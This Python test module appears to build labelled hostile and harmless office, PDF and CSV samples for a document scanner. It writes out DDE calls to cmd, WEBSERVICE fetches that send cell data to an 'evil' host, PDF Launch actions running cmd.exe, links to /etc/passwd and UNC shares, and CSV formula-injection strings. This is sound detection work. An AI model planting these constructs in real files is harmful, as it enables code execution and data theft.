"""Files that act, fetch or call from a place that a plain look misses, and their harmless neighbours."""

import io
import zipfile

import pikepdf
from openpyxl import Workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from PIL import Image

from .hostile import OFFICE, action, docx, external, image, name, pdf, xlsx

FETCH = 'WEBSERVICE("http://evil/"&A1)'
CALL = "cmd|'/C calc'!A0"


def book(change):
    made, buffer = Workbook(), io.BytesIO()
    made.active["A1"] = "x"
    change(made)
    made.save(buffer)
    return buffer.getvalue()


def named(words, called="evil", **more):
    return lambda made: made.defined_names.add(DefinedName(called, attr_text=words, **more))


def ruled(words):
    return lambda made: made.active.conditional_formatting.add("A1", FormulaRule(formula=[words]))


def validated(words):
    return lambda made: made.active.add_data_validation(DataValidation(type="custom", formula1=words, sqref="A1"))


def with_part(content, path, part, old=None, new=None):
    """Return the archive with one more part, and a piece of its texts replaced."""
    whole, buffer = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for entry in whole.namelist():
            said = whole.read(entry)
            made.writestr(entry, said.replace(old.encode(), new.encode()) if old else said)
        if path:
            made.writestr(path, part)
    return buffer.getvalue()


def changed(old, new):
    return with_part(xlsx("=SUM(B1:B9)"), None, None, old, new)


def macro_sheet(path):
    kind = "application/vnd.ms-excel.macrosheet+xml"
    return with_part(xlsx(), path, "<a/>", "</Types>", f'<Override PartName="/{path}" ContentType="{kind}"/></Types>')


def field(*pieces):
    """Return a Word field whose words are the pieces; a piece may be another field."""

    def mark(kind):
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    inner = "".join(p if p.startswith("<") else f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in pieces)
    return mark("begin") + inner + mark("separate") + "<w:r><w:t>1</w:t></w:r>" + mark("end")


def word(*pieces):
    return docx(f"<w:p>{field(*pieces)}</w:p>")


def related(kind, target):
    return docx(rels=f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}"/>', **{f"word__{target}": "<a/>"})


def pressed(**entries):
    """Return a PDF whose page has a link with this action."""

    def change(made):
        link = action(Type=name("Annot"), Subtype=name("Link"), A=action(**entries))
        made.pages[0].Annots = pikepdf.Array([link])

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def opened(**entries):
    def change(made):
        made.Root.OpenAction = action(S=name("GoTo"), D=pikepdf.Array([made.pages[0].obj, name("Fit")]), **entries)

    return pdf(change)


def far_content(made):
    made.pages[0].Contents = made.make_stream(b"", F="\\\\evil\\share\\x")


def outline(made):
    item = made.make_indirect(action(Title="x", A=action(S=name("Launch"), F="cmd.exe")))
    made.Root.Outlines = action(Type=name("Outlines"), First=item, Last=item, Count=1)


def bookmarks(made):
    """An ordinary outline, whose entries follow each other by /Next, and a tagged text with a part called Thread."""
    first, second = (made.make_indirect(action(Title=title)) for title in ("a", "b"))
    first.Next, first.Dest = second, pikepdf.Array([made.pages[0].obj, name("Fit")])
    made.Root.Outlines = action(Type=name("Outlines"), First=first, Last=second, Count=2)
    made.Root.StructTreeRoot = action(K=action(S=name("Thread"), A=action(O=name("Layout"))))


def mpo(broken=False):
    """A photograph as phones write it, with a second picture behind; `broken`: it says so of none."""
    buffer = io.BytesIO()
    first, second = (Image.new("RGB", (9, 7), colour) for colour in ("red", "blue"))
    first.save(buffer, "MPO", save_all=True, append_images=[second])
    content = buffer.getvalue()
    return content.replace(b"\x01\xb0\x04\x00", b"\x09\xb0\x04\x00") if broken else content


def sheet(text):
    return lambda: f"a,b\n1,2\n{text}\n".encode()


URI = {"S": name("URI")}
ACTIVE = {
    "workbook with a call in a name": ("a.xlsx", lambda: book(named(CALL)), "active"),
    "workbook with a fetch in a name": ("a.xlsx", lambda: book(named(FETCH)), "formula"),
    "workbook with a fetch in a format": ("a.xlsx", lambda: book(ruled(FETCH)), "formula"),
    "workbook with a fetch in a check": ("a.xlsx", lambda: book(validated(FETCH)), "formula"),
    "workbook with a name that opens": ("a.xlsx", lambda: book(named("Sheet!$A$1", "_xlnm.Auto_Open")), "macros"),
    "workbook with a macro's name": ("a.xlsx", lambda: book(named("x", function=True)), "macros"),
    "workbook that fetches": ("a.xlsx", lambda: xlsx(f"={FETCH}"), "formula"),
    "workbook that fetches a picture": ("a.xlsx", lambda: xlsx('=_xlfn.IMAGE("http://evil/x.png")'), "formula"),
    "workbook that asks a program": ("a.xlsx", lambda: xlsx('=RTD("evil.prog",,"x")'), "formula"),
    "workbook that asks an add-in": ("a.xlsx", lambda: xlsx('=_xll.EVIL("x")'), "formula"),
    "workbook that names a place in words": ("a.xlsx", lambda: xlsx("=INDIRECT(A1)"), "formula"),
    "workbook that hides a fetch in a sheet's name": ("a.xlsx", lambda: xlsx("='a\"b'!A1+" + FETCH), "formula"),
    "workbook that hides a fetch in a column": ("a.xlsx", lambda: xlsx("=T['\"]&" + FETCH), "formula"),
    "workbook with a formula that never ends": ("a.xlsx", lambda: changed("SUM(B1:B9)", "SUM([B1"), "unsafe"),
    "workbook of a share": ("a.xlsx", lambda: xlsx("='\\\\evil\\share\\[x]S'!A1"), "linked"),
    "workbook of another workbook": ("a.xlsx", lambda: xlsx("=[1]Sheet1!A1"), "linked"),
    "workbook with a macro sheet": ("a.xlsx", lambda: macro_sheet("xl/macrosheets/sheet1.xml"), "macros"),
    "workbook with a renamed macro sheet": ("a.xlsx", lambda: macro_sheet("xl/worksheets/extra.xml"), "macros"),
    "workbook with a shape's macro": (
        "a.xlsx",
        lambda: with_part(xlsx(), "xl/drawings/drawing1.xml", '<d><sp macro="[0]!go" textlink=""/></d>'),
        "macros",
    ),
    "workbook with a call in a shape": (
        "a.xlsx",
        lambda: with_part(xlsx(), "xl/drawings/drawing1.xml", f'<d><sp macro="" textlink="{CALL}"/></d>'),
        "active",
    ),
    "document with a template": (
        "a.docx",
        lambda: docx(rels=external("attachedTemplate", "\\\\evil\\t.dotm")),
        "linked",
    ),
    "document with a field that calls": ("a.docx", lambda: word(" DDEAUTO cmd ", "x"), "active"),
    "document with a field written in numbers": ("a.docx", lambda: word(field(" QUOTE 68 68 69 "), " cmd"), "active"),
    "document with a field behind a field": ("a.docx", lambda: word("DD", field(" PAGE "), " cmd"), "active"),
    "document with an included text": ("a.docx", lambda: word('INCLUDETEXT "http://e/a.docx"'), "active"),
    "document with an included picture": ("a.docx", lambda: word('INCLUDEPICTURE "http://e/a.png" \\d'), "active"),
    "document with an unknown field": ("a.docx", lambda: word("FETCH x"), "active"),
    "document with a field to the disk": ("a.docx", lambda: word('HYPERLINK \\l "a" "file:///c:/x.exe"'), "linked"),
    "document with a taken-back field": (
        "a.docx",
        lambda: docx("<w:p><w:r><w:delInstrText>DDE cmd</w:delInstrText></w:r></w:p>"),
        "active",
    ),
    "document with another file": ("a.docx", lambda: docx('<w:altChunk w:id="1"/>'), "active"),
    "document with another file by relation": ("a.docx", lambda: related("aFChunk", "notes.xml"), "nested"),
    "document with an object by relation": ("a.docx", lambda: related("oleObject", "notes.xml"), "nested"),
    "document with a data source": ("a.docx", lambda: docx("<w:mailMerge/>"), "linked"),
    "slides with a button that starts something": (
        "a.docx",
        lambda: docx('<w:p><w:hlinkClick action="ppaction://program"/></w:p>'),
        "active",
    ),
    "pdf that goes on to an address at opening": (
        "a.pdf",
        lambda: opened(Next=action(**URI, URI="http://evil/")),
        "active",
    ),
    "pdf that prints at opening": (
        "a.pdf",
        lambda: pdf(lambda made: made.Root.update({"/OpenAction": action(S=name("Named"), N=name("Print"))})),
        "active",
    ),
    "pdf with a link to a script": ("a.pdf", lambda: pressed(**URI, URI=" javascript:alert(1)"), "linked"),
    "pdf with a link to the disk": ("a.pdf", lambda: pressed(**URI, URI="file:///etc/passwd"), "linked"),
    "pdf with a link to a share": ("a.pdf", lambda: pressed(**URI, URI="\\\\evil\\share"), "linked"),
    "pdf with a jump to another file": ("a.pdf", lambda: pressed(S=name("GoToR"), F="\\\\evil\\x.pdf"), "active"),
    "pdf with a jump into a file": ("a.pdf", lambda: pressed(S=name("GoToE"), D="a"), "active"),
    "pdf with a thread": ("a.pdf", lambda: pressed(S=name("Thread"), F="\\\\evil\\x.pdf", D=0), "active"),
    "pdf with a form that sends itself": ("a.pdf", lambda: pressed(S=name("SubmitForm"), F="http://e"), "active"),
    "pdf with data from outside": ("a.pdf", lambda: pressed(S=name("ImportData"), F="x.fdf"), "active"),
    "pdf with a film": ("a.pdf", lambda: pressed(S=name("Rendition")), "active"),
    "pdf with a command behind a jump": (
        "a.pdf",
        lambda: pressed(S=name("GoTo"), D="a", Next=pikepdf.Array([action(S=name("Launch"), F="cmd.exe")])),
        "active",
    ),
    "pdf with an action that nobody knows": ("a.pdf", lambda: pressed(S=name("Evil")), "active"),
    "pdf with a command in its outline": ("a.pdf", lambda: pdf(outline), "active"),
    "pdf with a part in another file": ("a.pdf", lambda: pdf(far_content), "linked"),
    "csv that fetches": ("a.csv", sheet(f"={FETCH}"), "formula"),
    "csv with a plus": ("a.csv", sheet("1,+A1"), "formula"),
    "csv with a minus": ("a.csv", sheet("1,-A1"), "formula"),
    "csv with an at sign": ("a.csv", sheet("1,@SUM(A1)"), "formula"),
    "csv with a tab": ("a.csv", sheet('1,"\tA1"'), "formula"),
    "csv with a line's end": ("a.csv", sheet('1,"\r=A1"'), "formula"),
    "csv with a wide sign": ("a.csv", sheet("1,＝A1"), "formula"),
    "csv with a formula behind semicolons": ("a.csv", sheet('1,"x;=WEBSERVICE(A1)"'), "formula"),
    "csv of semicolons": ("a.csv", lambda: b"a;b\n1;=A1\n", "formula"),
    "csv of tabs": ("a.csv", lambda: b"a\tb\n1\t=A1\n", "formula"),
    "picture that is noise": ("a.jpg", lambda: image("JPEG")[:30], "damaged"),
}

HARMLESS = {
    "workbook that reckons": ("a.xlsx", lambda: xlsx("=IF(SUM('It''s (1)'!B1:B9)>0,\"Nu. (x) | http://y\",T[[#All],[a]])")),
    "workbook with newer functions": ("a.xlsx", lambda: xlsx("=_xlfn.XLOOKUP(A1,B:B,_xlfn._xlws.FILTER(C:C,1))")),
    "workbook with a name": ("a.xlsx", lambda: book(named("Sheet!$A$1:$B$9", "Costs"))),
    "workbook with a format": ("a.xlsx", lambda: book(ruled("AND(A1>3,A1<9)"))),
    "workbook with a check": ("a.xlsx", lambda: book(validated("LEN(A1)<9"))),
    "document with fields": (
        "a.docx",
        lambda: docx(
            "<w:p>" + field(" PAGE ") + field("=SUM(ABOVE)") + field(" IF ", field(" PAGE "), ' = 1 "a" "b" ')
            + field(' HYPERLINK "https://gov.example/link/a" \\l "b" ') + field(' TOC \\o "1-3" ') + field() + "</w:p>"
        ),
    ),
    "document with an own relation": ("a.docx", lambda: related("customXml", "notes.xml")),
    "pdf with bookmarks": ("a.pdf", lambda: pdf(bookmarks)),
    "pdf with links": ("a.pdf", lambda: pressed(**URI, URI="https://a.bt", Next=action(**URI, URI="mailto:a@b"))),
    "pdf that opens by a jump": ("a.pdf", lambda: opened()),
    "pdf with a button to the next page": ("a.pdf", lambda: pressed(S=name("Named"), N=name("NextPage"))),
    "photograph of two pictures": ("a.jpg", lambda: mpo()),
    "photograph that promises none": ("a.jpg", lambda: mpo(broken=True)),
    "table with a sentence": ("a.csv", sheet('1,"We asked; - and they said no"')),
}  # fmt: skip
